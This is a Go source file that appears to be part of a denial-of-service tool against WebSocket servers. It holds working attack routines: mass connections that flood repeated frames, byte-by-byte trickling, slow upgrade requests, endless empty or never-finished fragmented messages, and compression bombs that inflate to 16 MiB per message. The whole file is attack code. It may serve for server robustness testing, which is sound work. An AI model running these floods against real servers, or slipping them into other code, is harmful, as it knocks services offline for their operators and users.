//go:build linux

package main

import (
	"bytes"
	"compress/flate"
	"math/rand"
	"net"
	"slices"
)

// sockets opens WebSockets and runs a client on each. If the time was up before the client has sent
// anything, its connection closes: an idle WebSocket is no attack, and servers keep it.
func (a *attacker) sockets(n int, headers string, client func(c net.Conn)) error {
	return a.each(n, func(c net.Conn) {
		err := upgrade(c, headers)
		before := c.(*conn).written.Load()
		if err == nil {
			client(c)
		}
		if c.(*conn).written.Load() == before {
			c.Close()
		}
	})
}

// many fills 64 KiB with the same frame.
func many(frame []byte) []byte { return slices.Repeat(frame, max(1, 64<<10/len(frame))) }

// frames sends the same bytes without end, on n WebSockets.
func frames(n int, p []byte, read bool) func(a *attacker) error {
	return func(a *attacker) error {
		return a.sockets(n, "", func(c net.Conn) {
			if read {
				go drop(c)
			}
			a.repeat(c, p)
		})
	}
}

// trickledFrames sends frames byte by byte.
func trickledFrames(a *attacker) error {
	p := frame(0x82, make([]byte, 1000))
	return a.sockets(8, "", func(c net.Conn) {
		go drop(c)
		for {
			for i := range p {
				if !a.write(c, p[i:i+1]) {
					return
				}
			}
		}
	})
}

// slowFrames sends one byte of a frame per second.
func slowFrames(a *attacker) error {
	const head = "GET / HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n" +
		"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\n\r\n"
	return a.crowd(a.size(2000, 300), len(head)+6, append([]byte(head), frame(0x82, make([]byte, 1000))...))
}

// emptyFragments sends a message of a million empty fragments, and again.
func emptyFragments(a *attacker) error {
	segment := many(frame(0, nil))
	return a.sockets(4, "", func(c net.Conn) {
		go drop(c)
		for a.write(c, frame(0x02, nil)) {
			for range 1_000_000 * len(frame(0, nil)) / len(segment) {
				if !a.write(c, segment) {
					return
				}
			}
			a.write(c, frame(0x80, nil))
		}
	})
}

// heldFragments sends fragments of messages that never end.
func heldFragments(a *attacker) error {
	first, next := frame(0x02, make([]byte, 1<<20)), frame(0x00, make([]byte, 1<<20))
	return a.sockets(a.size(100, 60), "", func(c net.Conn) {
		for i := 0; i < 10; i++ {
			p := next
			if i == 0 {
				p = first
			}
			if !a.write(c, p) {
				return
			}
		}
		a.wait()
	})
}

// offer makes a server agree to compression.
const offer = "Sec-WebSocket-Extensions: permessage-deflate; client_no_context_takeover\r\n"

// compressed is a frame with a compressed message of n bytes. The first ones, as many as random
// says, cannot be compressed.
func compressed(n, random int) []byte {
	plain := make([]byte, n)
	rand.New(rand.NewSource(1)).Read(plain[:random])
	var packed bytes.Buffer
	w, _ := flate.NewWriter(&packed, flate.BestCompression)
	w.Write(plain)
	w.Flush()
	return frame(0xc2, packed.Bytes()[:packed.Len()-4]) // [RFC 7692 7.2.1]
}

// compressedFrames sends segments full of small frames that become messages of 60 KB.
func compressedFrames(read bool) func(a *attacker) error {
	return func(a *attacker) error {
		p := many(compressed(60<<10, 0))
		return a.sockets(4, offer, func(c net.Conn) {
			if read {
				go drop(c)
			}
			a.repeat(c, p)
		})
	}
}

// bombs sends messages that become 16 MiB when they are inflated. The first random bytes of them
// cannot be compressed.
func bombs(random int) func(a *attacker) error {
	return func(a *attacker) error {
		p := compressed(16<<20, random)
		return a.again(10, func(c net.Conn) {
			defer reset(c)
			if upgrade(c, offer) == nil {
				go drop(c)
				a.repeat(c, p)
			}
		})
	}
}
